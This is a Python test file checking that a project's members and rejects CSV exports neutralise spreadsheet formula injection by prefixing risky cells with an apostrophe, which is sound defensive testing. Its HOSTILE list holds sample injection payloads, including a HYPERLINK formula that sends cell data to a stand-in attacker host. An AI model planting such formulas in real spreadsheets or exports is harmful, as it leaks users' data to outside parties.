"""CSV downloads never hand a spreadsheet a formula (issue 14 §4): a cell starting with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'`` (OWASP's advice), in the
members CSV (header too) and the rejects CSV; other cells are written as they are."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from segsync.domain.untrusted import FORMULA_PREFIXES, spreadsheet_safe
from segsync.services import profiles, runs, segments
from segsync.services.context import ServiceContext
from segsync.services.segments import members as segment_members
from segsync.simulator import RunningSimulator
from tests.services.runs_support import Person, ctx, people, setup, sim

__all__ = ["ctx", "sim"]  # fixtures

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&x,"click")', "+1+2", "-2+3", "@SUM(x)"]


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_every_formula_prefix_is_escaped(prefix: str) -> None:
    assert spreadsheet_safe(prefix + "cmd") == "'" + prefix + "cmd"
    assert spreadsheet_safe("plain " + prefix) == "plain " + prefix


def test_members_csv_escapes_formulas_in_cells_and_header(
    service_context: ServiceContext, tmp_path: Path
) -> None:
    source = tmp_path / "customers.csv"
    with source.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["CustomerId", "City", "=Note"])
        for i, value in enumerate(HOSTILE, start=1):
            writer.writerow([str(i), "Lisbon", value])
        writer.writerow(["9", "Lisbon", "\tTabbed"])
        writer.writerow(["10", "Lisbon", "fine = text"])
    profiles.import_profiles(service_context, source, "customers", key="CustomerId", profile=True)
    segments.create_segment(
        service_context,
        "name: All\nrules:\n  - conditions: {attribute: City, op: equals, value: Lisbon}\n",
    )
    target = tmp_path / "members.csv"
    segment_members.export_members_csv(service_context, "All", target)
    with target.open(newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["CustomerId", "City", "'=Note"]
    notes = [row[2] for row in rows[1:]]
    assert notes == [*("'" + v for v in HOSTILE), "'\tTabbed", "fine = text"]


def test_rejects_csv_escapes_formulas(
    ctx: ServiceContext, sim: RunningSimulator, tmp_path: Path
) -> None:
    setup(ctx, sim, tmp_path, [*people(2), Person(8, HOSTILE[0]), Person(9, "@evil")])
    run = runs.run_export(ctx, "Newsletter")
    target = tmp_path / "rejects.csv"
    assert runs.write_rejects_csv(ctx, run.id, target) == 2
    with target.open(newline="") as handle:
        emails = sorted(row["email"] for row in csv.DictReader(handle))
    assert emails == sorted(["'" + HOSTILE[0], "'@evil"])
